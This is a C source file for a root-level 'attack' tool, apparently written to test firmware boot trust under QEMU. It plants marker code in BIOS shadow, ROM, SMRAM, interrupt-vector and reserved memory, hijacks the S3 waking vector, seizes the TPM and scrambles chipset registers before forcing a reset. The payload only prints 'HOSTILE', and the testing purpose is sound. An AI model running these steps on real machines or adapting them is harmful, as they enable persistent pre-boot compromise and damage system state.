/* SPDX-License-Identifier: MIT */
/*
 * What a hostile root user can leave behind for the next boot.
 *
 *   attack <step>...     the steps are done in the order given
 *
 * Each step writes one kind of state that survives a reset; the machine is
 * restarted by one of the reset steps.  The planted code prints "HOSTILE" on
 * the debug console at port E9h, works in 16-bit and in 32-bit mode alike and
 * is entered at any offset.  The tests in test_trust.py say what must not
 * come of it.  Needs /dev/mem with iomem=relaxed.
 *
 * Long because it is one list: each attack is a step of a few lines.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/io.h>
#include <sys/mman.h>
#include <unistd.h>

#define PAGE        4096u

/* Host bridge PAM0: i440FX 59h, Q35 90h; seven registers. */
#define I440FX      0x12378086u
#define Q35         0x29c08086u
#define PIIX4_PM    0x71138086u
#define ICH9_LPC    0x29188086u

#define CMOS_SHUTDOWN   0x0fu

static void die(const char *what)
{
    fprintf(stderr, "attack: %s: %s\n", what, strerror(errno));
    exit(1);
}

static uint32_t pci_address(unsigned dev, unsigned fn, unsigned reg)
{
    return 0x80000000u | dev << 11 | fn << 8 | (reg & 0xfcu);
}

static uint32_t pci_read(unsigned dev, unsigned fn, unsigned reg)
{
    outl(pci_address(dev, fn, reg), 0xcf8);
    return inl(0xcfc);
}

static uint8_t pci_read8(unsigned dev, unsigned fn, unsigned reg)
{
    outl(pci_address(dev, fn, reg), 0xcf8);
    return inb(0xcfc + (reg & 3u));
}

static void pci_write8(unsigned dev, unsigned fn, unsigned reg, uint8_t v)
{
    outl(pci_address(dev, fn, reg), 0xcf8);
    outb(v, 0xcfc + (reg & 3u));
}

static unsigned pam_base(void)
{
    switch (pci_read(0, 0, 0)) {
    case I440FX: return 0x59;
    case Q35:    return 0x90;
    }
    fprintf(stderr, "attack: unknown host bridge\n");
    exit(1);
}

/* Ports of the power management block, or 0. */
static unsigned pm_base(void)
{
    if (pci_read(31, 0, 0) == ICH9_LPC)
        return pci_read(31, 0, 0x40) & 0xff80u;
    if (pci_read(1, 3, 0) == PIIX4_PM)
        return pci_read(1, 3, 0x40) & 0xffc0u;
    return 0;
}

static volatile uint8_t *map(uint32_t at, size_t len)
{
    int fd = open("/dev/mem", O_RDWR);
    uint8_t *p;

    if (fd < 0)
        die("/dev/mem");
    p = mmap(NULL, len, PROT_READ | PROT_WRITE, MAP_SHARED, fd, at);
    if (p == MAP_FAILED)
        die("mmap of physical memory");
    close(fd);
    return p;
}

/*
 * A block of 4 KiB: NOPs, then the code.  Wherever it is entered, it gets to
 * the code, unless that is within the code itself.
 */
static void hostile_page(uint8_t *page)
{
    static const char text[] = "HOSTILE\n";
    uint8_t code[sizeof(text) * 4 + 4], *p = code;

    for (const char *t = text; *t; t++) {
        *p++ = 0xb0;            /* mov al, *t */
        *p++ = (uint8_t)*t;
        *p++ = 0xe6;            /* out 0e9h, al */
        *p++ = 0xe9;
    }
    *p++ = 0xfa;                /* cli */
    *p++ = 0xf4;                /* hlt */
    *p++ = 0xeb;                /* jmp to itself */
    *p++ = 0xfe;
    memset(page, 0x90, PAGE);
    memcpy(page + PAGE - (size_t)(p - code), code, (size_t)(p - code));
}

static void fill(uint32_t from, uint32_t to)
{
    uint8_t page[PAGE];
    unsigned kept = 0;

    hostile_page(page);
    for (uint32_t at = from; at < to; at += PAGE) {
        volatile uint8_t *p = map(at, PAGE);

        for (unsigned i = 0; i < PAGE; i++)
            p[i] = page[i];
        for (unsigned i = 0; i < PAGE; i++)
            kept += p[i] == page[i];
        munmap((void *)p, PAGE);
    }
    printf("attack: %x-%x: %u of %u bytes hold hostile code\n", from, to,
           kept, to - from);
}

/* All of C0000-FFFFF read and written as RAM. */
static void step_pam(void)
{
    unsigned base = pam_base();

    for (unsigned i = 0; i < 7; i++)
        pci_write8(0, 0, base + i, i ? 0x33 : 0x30);
    for (unsigned i = 0; i < 7; i++)
        printf("%02x ", pci_read8(0, 0, base + i));
    printf("attack: PAM unlocked\n");
}

static void step_bios(void)
{
    step_pam();
    fill(0xe0000, 0x100000);
}

static void step_roms(void)
{
    step_pam();
    fill(0xc0000, 0xe0000);
}

/* Vectors, BDA and 40:67 in page 0, EBDA at the end of low RAM. */
static void step_low(void)
{
    volatile uint8_t *p = map(0, PAGE);

    for (unsigned i = 0; i < 0x400; i += 4) {
        p[i] = 0;
        p[i + 1] = 0x06;        /* 0000:0600 */
        p[i + 2] = p[i + 3] = 0;
    }
    p[0x467] = 0;
    p[0x468] = 0x06;
    p[0x469] = p[0x46a] = 0;
    p[0x472] = 0x34;            /* "warm start" */
    p[0x473] = 0x12;
    munmap((void *)p, PAGE);
    {
        uint8_t page[PAGE];
        volatile uint8_t *q = map(0, PAGE);

        hostile_page(page);
        for (unsigned i = 0x600; i < PAGE; i++)
            q[i] = page[i];
        printf("attack: page 0 %s\n", q[PAGE - 1] == 0xfe && q[0x468] == 6 ?
               "holds hostile code and vectors" : "could not be written");
        munmap((void *)q, PAGE);
    }
}

static void step_ebda(void)
{
    fill(0x9f000, 0xa0000);
}

/*
 * What the firmware keeps at the end of RAM below 4 GiB: ACPI tables, the
 * event log.
 */
static void step_reserved(void)
{
    FILE *f = fopen("/proc/iomem", "r");
    unsigned long from, to, ram_end = 0;
    char line[128];

    if (f == NULL)
        die("/proc/iomem");
    while (fgets(line, sizeof(line), f) != NULL) {
        if (sscanf(line, "%lx-%lx", &from, &to) != 2 || line[0] == ' ' ||
            from < 0x100000 || to >= 0x80000000)
            continue;
        if (strstr(line, "System RAM") != NULL)
            ram_end = to + 1;
        else if (ram_end && from == ram_end) {
            ram_end = to + 1;
            fill((uint32_t)from, (uint32_t)ram_end);
        }
    }
    fclose(f);
}

static void step_smram(void)
{
    unsigned base = pam_base(), reg = base == 0x59 ? 0x72 : 0x9d;

    pci_write8(0, 0, reg, 0x4a);        /* open for access */
    printf("attack: SMRAM register %02x after opening\n",
           pci_read8(0, 0, reg));
    fill(0xa0000, 0xc0000);
}

static void cmos(unsigned index, uint8_t v)
{
    outb((uint8_t)(0x80u | index), 0x70);
    outb(v, 0x71);
}

static void fill_cmos(uint8_t v)
{
    for (unsigned i = 0x0e; i < 0x80; i++)
        cmos(i, v);
    printf("attack: CMOS filled with %02x\n", v);
}

static void step_cmos_all(void)
{
    fill_cmos(0xff);
}

static void step_cmos_zero(void)
{
    fill_cmos(0);
}

/*
 * A resume from S3 that never slept: the code in CMOS and a waking vector to
 * hostile code, if the FACS can be found.
 */
static uint32_t le32(const volatile uint8_t *p)
{
    return (uint32_t)(p[0] | p[1] << 8 | p[2] << 16) | (uint32_t)p[3] << 24;
}

static void step_s3(void)
{
    FILE *f = fopen("/sys/firmware/acpi/tables/FACP", "rb");
    uint8_t fadt[64] = { 0 };
    uint32_t facs;
    volatile uint8_t *p;

    cmos(CMOS_SHUTDOWN, 0xfe);
    if (f == NULL || fread(fadt, 1, sizeof(fadt), f) < 40) {
        printf("attack: CMOS says S3; no FADT\n");
        return;
    }
    fclose(f);
    facs = le32(fadt + 36);
    p = map(facs & ~(PAGE - 1), 2 * PAGE) + (facs & (PAGE - 1));
    printf("attack: FACS at %x signature %c%c%c%c\n", facs, p[0], p[1], p[2],
           p[3]);
    p[12] = 0;
    p[13] = 0x06;               /* 0000:0600, where "low" put code */
    p[14] = p[15] = 0;
    printf("attack: CMOS says S3, waking vector %x\n", le32(p + 12));
}

/* The memory overwrite byte of QEMU's PPI page: RAM is wiped at the reset. */
static void step_movv(void)
{
    volatile uint8_t *p = map(0xfed45000, PAGE);

    p[0x15a] = 1;
    printf("attack: overwrite request %02x\n", p[0x15a]);
}

/* A flash device that does not answer reads with its contents any more. */
static void step_flash(void)
{
    volatile uint8_t *p = map(0xfffe0000, PAGE);

    p[0] = 0x90;                /* read identifier codes */
    printf("attack: flash reads %02x %02x\n", p[0], p[1]);
}

/* Physical addresses of devices. */
#define TPM         0xfed40000u
#define LAPIC       0xfee00000u
#define IOAPIC      0xfec00000u
#define HPET        0xfed00000u

static void write32(volatile uint8_t *page, unsigned reg, uint32_t v)
{
    *(volatile uint32_t *)(page + reg) = v;
}

/*
 * All localities of the TPM wanted and taken, and a command that runs or is
 * half sent when the reset comes.
 */
static void step_tpm(void)
{
    static const uint8_t selftest20[] = {
        0x80, 1, 0, 0, 0, 11, 0, 0, 1, 0x43, 1
    };
    static const uint8_t selftest12[] = {
        0, 0xc1, 0, 0, 0, 10, 0, 0, 0, 0x50
    };
    volatile uint8_t *p = map(TPM, 5 * PAGE);
    uint32_t type = *(volatile uint32_t *)(p + 0x30) & 0xf;

    if (type == 1) {                    /* CRB */
        for (unsigned i = 0; i < 5; i++)
            write32(p + i * PAGE, 0x08, 1);
        write32(p, 0x40, 1);
        for (unsigned i = 0; i < sizeof(selftest20); i++)
            p[0x80 + i] = selftest20[i];
        write32(p, 0x4c, 1);
        printf("attack: TPM: CRB command started\n");
        return;
    }
    for (unsigned i = 0; i < 5; i++)
        p[i * PAGE] = 0x02;             /* request use */
    for (unsigned i = 1; i < 5; i++)
        p[i * PAGE] = 0x08;             /* seize */
    for (unsigned i = 0; i < 5; i++) {
        if (!(p[i * PAGE] & 0x20))
            continue;                   /* not the active one */
        p[i * PAGE + 0x18] = 0x40;
        for (unsigned n = 0; n < sizeof(selftest12) - 1; n++)
            p[i * PAGE + 0x24] = selftest12[n];
        printf("attack: TPM: command half sent, locality %u\n", i);
    }
}

static void pci_fill(unsigned dev, unsigned fn, unsigned from, unsigned to,
                     uint8_t v)
{
    for (unsigned reg = from; reg <= to; reg++)
        pci_write8(dev, fn, reg, v);
}

static void pci_write(unsigned dev, unsigned fn, unsigned reg, uint32_t v)
{
    outl(pci_address(dev, fn, reg), 0xcf8);
    outl(v, 0xcfc);
}

static void registers_pc(void)
{
    pci_fill(0, 0, 0x50, 0x58, 0xff);
    pci_fill(0, 0, 0x60, 0x9f, 0xff);   /* with SMRAM */
    pci_fill(1, 0, 0x60, 0x63, 0x80);   /* PCI interrupts: none */
    pci_fill(1, 0, 0x69, 0xbf, 0xff);
    pci_fill(1, 1, 0x40, 0x4f, 0xff);   /* IDE timing */
    pci_fill(1, 3, 0x58, 0x5b, 0xff);   /* SMI by port B2h */
    pci_write(1, 3, 0x40, 0xb001);      /* PM block */
    pci_fill(1, 3, 0x80, 0x80, 0);
    pci_write(1, 3, 0x90, 0xb101);
    pci_fill(1, 3, 0xd2, 0xd2, 0xff);
}

static void registers_q35(void)
{
    pci_write(0, 0, 0x60, 0);           /* MMCFG over the ROM */
    pci_write(0, 0, 0x64, 0);
    pci_write(0, 0, 0x60, 0xf0000001);
    pci_fill(0, 0, 0x50, 0x51, 0xff);   /* size of TSEG */
    pci_fill(0, 0, 0x9d, 0x9d, 0x4a);
    pci_fill(0, 0, 0x9e, 0x9e, 0xc7);   /* TSEG on */
    pci_fill(0, 0, 0x9c, 0x9c, 0xff);   /* QEMU's own: if it has that, */
    if (pci_read8(0, 0, 0x9c) == 1)     /* 30000-4FFFF hidden */
        pci_fill(0, 0, 0x9c, 0x9c, 0x02);
    printf("attack: SMRAM %02x ESMRAMC %02x\n", pci_read8(0, 0, 0x9d),
           pci_read8(0, 0, 0x9e));
    pci_fill(31, 0, 0x60, 0x63, 0x80);
    pci_fill(31, 0, 0x68, 0x6b, 0x80);
    pci_fill(31, 0, 0xa0, 0xa1, 0xff);  /* SMI lock */
    pci_fill(31, 0, 0xa4, 0xa4, 0xff);  /* rate of an SMI timer */
    pci_write(31, 0, 0xf0, 0xfed00001); /* RCBA over HPET and TPM */
    pci_write(31, 0, 0x40, 0xb001);
    pci_fill(31, 0, 0x44, 0x44, 0);
    pci_fill(31, 3, 0x40, 0x40, 0xff);
}

/* PCI devices: everything decoded, over the ROM, with bus mastering. */
static void registers_devices(void)
{
    for (unsigned dev = 0; dev < 32; dev++) {
        for (unsigned fn = 0; fn < 8; fn++) {
            if (pci_read(dev, fn, 0) == 0xffffffff)
                continue;
            for (unsigned reg = 0x10; reg <= 0x24; reg += 4)
                pci_write(dev, fn, reg, pci_read(dev, fn, reg) & 1 ?
                          0xb000 : 0xfffc0000);
            pci_write(dev, fn, 0x30, 0xfffc0001);
            pci_fill(dev, fn, 0x3c, 0x3c, 0xff);
            pci_fill(dev, fn, 0x04, 0x04, 0x07);
        }
    }
}

/*
 * The chipset's registers, interrupt controllers and timers in states in
 * which no firmware would leave them.  Nothing works afterwards: to be
 * followed by a reset.
 */
static void step_registers(void)
{
    volatile uint8_t *lapic = map(LAPIC, PAGE), *ioapic = map(IOAPIC, PAGE);
    volatile uint8_t *hpet = map(HPET, PAGE);
    unsigned pm = pm_base();

    printf("attack: registers\n");
    fflush(stdout);
    outw(0xffff, pm + 2);               /* PM1: all enabled */
    for (unsigned i = 0; i < 16; i++)
        outb(0xff, (pam_base() == 0x59 ? 0xafe0 : pm + 0x20) + i);
    outl(0xffffffff, pm + 0x30);        /* ICH9: SMI_EN */
    cmos(0x0b, 0x7a);                   /* every interrupt of the clock */
    cmos(0x0a, 0x2f);
    outb(0x34, 0x43);                   /* a quicker tick */
    outb(0x00, 0x40);
    outb(0x40, 0x40);
    outb(0xff, 0x4d0);                  /* level-triggered */
    outb(0xff, 0x4d1);
    write32(hpet, 0x10, 3);             /* on, in the PIT's place */
    write32(hpet, 0x100, 0x4c);
    write32(hpet, 0x108, 10000000);
    for (unsigned i = 0; i < 24; i++) { /* every line is open */
        write32(ioapic, 0, 0x10 + 2 * i);
        write32(ioapic, 0x10, 0x20);
    }
    if (pam_base() == 0x59)
        registers_pc();
    else
        registers_q35();
    registers_devices();
    /* Last, and 50 ms to the reset: Linux 7.2 writes a line for each interrupt
     * of a vector it does not know, and comes to nothing else. */
    write32(lapic, 0x3e0, 0);
    write32(lapic, 0x380, 25000000);
    write32(lapic, 0x320, 0x20020);     /* timer: periodic */
    write32(lapic, 0x350, 0x700);       /* LINT0: ExtINT; LINT1: NMI */
    write32(lapic, 0x360, 0x400);
}

/* Interrupts by way of the 8259 become NMIs, of which Linux takes many. */
static void step_lint0(void)
{
    volatile uint8_t *lapic = map(LAPIC, PAGE);

    outb(0, 0x21);
    write32(lapic, 0x350, 0x400);
}

/* Those by way of the I/O APIC. */
static void step_ioapic(void)
{
    volatile uint8_t *ioapic = map(IOAPIC, PAGE);

    for (unsigned i = 0; i < 24; i++) {
        write32(ioapic, 0, 0x10 + 2 * i);
        write32(ioapic, 0x10, 0x420);
    }
}

/* The handler of the first SMI after a reset is in RAM. */
static void step_smbase(void)
{
    fill(0x38000, 0x39000);
}

/* INIT to this processor: it starts at the reset vector, nothing is reset. */
static void reset_init(void)
{
    volatile uint8_t *lapic = map(LAPIC, PAGE);
    uint32_t self = *(volatile uint32_t *)(lapic + 0x20);

    write32(lapic, 0x310, self);
    write32(lapic, 0x300, 0x4500);
}

static void reset_port92(void)
{
    outb(inb(0x92) & 0xfe, 0x92);
    outb(inb(0x92) | 0x01, 0x92);
}

static void reset_cf9(void)
{
    outb(0x02, 0xcf9);
    outb(0x06, 0xcf9);
}

static void reset_keyboard(void)
{
    outb(0xfe, 0x64);
}

/* S3 by hand: no driver saves the TPM's state. */
static void sleep_now(void)
{
    unsigned pm = pm_base();

    if (pm == 0) {
        fprintf(stderr, "attack: no power management block\n");
        exit(1);
    }
    /* SLP_TYP 1 is S3 on both chipsets as QEMU describes them; SLP_EN. */
    outw((uint16_t)((inw(pm + 4) & 0x03ff) | 1u << 10 | 1u << 13), pm + 4);
}

static const struct {
    const char *name;
    void (*run)(void);
} steps[] = {
    { "pam", step_pam },
    { "bios", step_bios },
    { "roms", step_roms },
    { "low", step_low },
    { "ebda", step_ebda },
    { "smram", step_smram },
    { "cmos-all", step_cmos_all },
    { "cmos-zero", step_cmos_zero },
    { "reserved", step_reserved },
    { "flash", step_flash },
    { "tpm", step_tpm },
    { "registers", step_registers },
    { "lint0-nmi", step_lint0 },
    { "ioapic-nmi", step_ioapic },
    { "smbase", step_smbase },
    { "s3", step_s3 },
    { "movv", step_movv },
    { "cf9", reset_cf9 },
    { "kbd", reset_keyboard },
    { "port92", reset_port92 },
    { "init", reset_init },
    { "sleep", sleep_now },
};

/* Bytes, written as hexadecimal digits, to a physical address. */
static int poke(const char *arg)
{
    unsigned at, byte;
    int start;
    volatile uint8_t *page;

    if (sscanf(arg, "%x:%n", &at, &start) != 1)
        return 1;
    page = map(at & ~(PAGE - 1), PAGE);
    for (arg += start; sscanf(arg, "%2x", &byte) == 1; arg += 2)
        page[at++ % PAGE] = (uint8_t)byte;
    munmap((void *)page, PAGE);
    return *arg != 0;
}

static int run_step(const char *name)
{
    unsigned code;

    if (sscanf(name, "cmos=%x", &code) == 1) {
        cmos(CMOS_SHUTDOWN, (uint8_t)code);
        printf("attack: CMOS shutdown code %02x\n", code);
        return 0;
    }
    if (strncmp(name, "poke=", 5) == 0) {
        if (poke(name + 5) == 0)
            return 0;
        fprintf(stderr, "attack: not <address>:<bytes>: %s\n", name);
        return 1;
    }
    for (size_t i = 0; i < sizeof(steps) / sizeof(steps[0]); i++)
        if (strcmp(steps[i].name, name) == 0) {
            steps[i].run();
            fflush(stdout);
            return 0;
        }
    fprintf(stderr, "attack: unknown step %s\n", name);
    return 1;
}

int main(int argc, char **argv)
{
    if (iopl(3) != 0)
        die("iopl");
    for (int i = 1; i < argc; i++)
        if (run_step(argv[i]) != 0)
            return 2;
    return 0;
}
